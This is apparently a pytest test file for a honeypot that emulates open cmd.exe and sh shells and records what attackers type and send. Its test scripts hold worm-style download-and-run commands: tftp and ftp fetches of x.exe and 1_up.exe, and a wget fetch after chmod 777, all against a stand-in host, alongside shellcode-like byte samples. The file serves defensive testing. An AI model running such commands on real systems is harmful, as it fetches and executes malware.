"""Shells that stand open at a port: cmd.exe and sh, what is typed at them, and what is sent to be run."""

from __future__ import annotations

import pytest

from eudaemon.protocols import load
from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols._open_shell import STAGE_BYTES_MAX
from eudaemon.protocols.cmd import Cmd
from eudaemon.protocols.sh import Sh
from eudaemon.testing.script import Table, play, visit
from eudaemon.wire import Purse

WORM = r"""
*
> tftp -i 198.51.100.7 GET x.exe & x.exe\n
*
! command.entered line='tftp -i 198.51.100.7 GET x.exe & x.exe'
? tftp://198.51.100.7/x.exe
= ok 4d5a9000
*
> echo open 198.51.100.7 5554>o&echo anonymous>>o&echo bin>>o&echo get 1_up.exe>>o&echo bye>>o&ftp -s:o\n
*
! command.entered
? ftp://anonymous:bin@198.51.100.7:5554/1_up.exe
= ok 4d5a9000
*
> exit\n
*
! command.entered line='exit'
/ over
"""
SCRIPT = r"""
> cd /tmp; echo abcdefgh | sed s/b/c/ > a; chmod 777 a\n
! command.entered
> wget http://198.51.100.7/x -O x\nid -u\n
*
! command.entered line='wget http://198.51.100.7/x -O x'
? http://198.51.100.7/x
= ok 2321
*
! command.entered line='id -u'
> exit\n
! command.entered line='exit'
/ over
"""


@pytest.mark.parametrize("split", [0, 1])
def test_a_worm_at_cmd(split: int) -> None:
    """The first as Blaster has it, the second as Sasser."""
    assert play(Cmd, WORM, split=split).over


@pytest.mark.parametrize("split", [0, 1])
def test_a_script_at_sh(split: int) -> None:
    talk = play(Sh, SCRIPT, split=split)
    assert b"# " not in talk.sent, "there is no prompt"


@pytest.mark.parametrize(
    ("name", "line"), [("cmd", b"echo %s>a.txt" % (b"left" * 30)), ("sh", b"echo %s > /tmp/a" % (b"left" * 30))]
)
def test_who_closes_at_once_has_said_a_line(name: str, line: bytes) -> None:
    talk = Table(load(name)(visit())).open()
    talk.say(line)
    talk.tell(HalfClosed(talk.at_s))
    assert talk.over
    talk.end()
    assert [keep.data.strip() for keep in talk.kept] == [b"left" * 30]


@pytest.mark.parametrize("name", ["cmd", "sh"])
@pytest.mark.parametrize(("first", "is_code"), [
    (b"\x00\x10\x00\x00MZ", True), (b"\xfc\xe8\x82\0\0\0", True), (b"MZ\x90\0\3", True), (b"ver\n\0\0", False),
    (b"id\n\xff\xff", False), (b"dir \xe4\xf6\n", False), (b"\r\n\r\n", False),
])  # fmt: skip
@pytest.mark.parametrize("split", [0, 1, 3])
def test_code_is_told_from_lines(first: bytes, is_code: bool, name: str, split: int) -> None:
    talk = Table(load(name)(visit())).open()
    talk.say(first, split=split)
    talk.tell(HalfClosed(talk.at_s))
    talk.end()
    found = [(keep.origin, keep.name, keep.data) for keep in talk.kept]
    assert found == ([("payload", "second stage", first)] if is_code else [])
    assert bool(talk.facts) is (not is_code and first.strip() != b"")


@pytest.mark.parametrize(("more", "partial"), [(0, False), (1, True)])
def test_a_stage_is_kept_up_to_its_limit(more: int, partial: bool) -> None:
    talk = Table(Cmd(visit())).open()
    talk.say(b"\0" * STAGE_BYTES_MAX)
    talk.say(b"\0" * more)
    assert talk.over is partial
    talk.end()
    assert [(len(keep.data), keep.partial) for keep in talk.kept] == [(STAGE_BYTES_MAX, partial)]
    poor = Table(Cmd(visit(purse=Purse(10)))).open()
    poor.say(b"\0" * 10)
    poor.say(b"\0")
    assert poor.over
    assert [(len(keep.data), keep.partial) for keep in poor.kept] == [(10, True)]
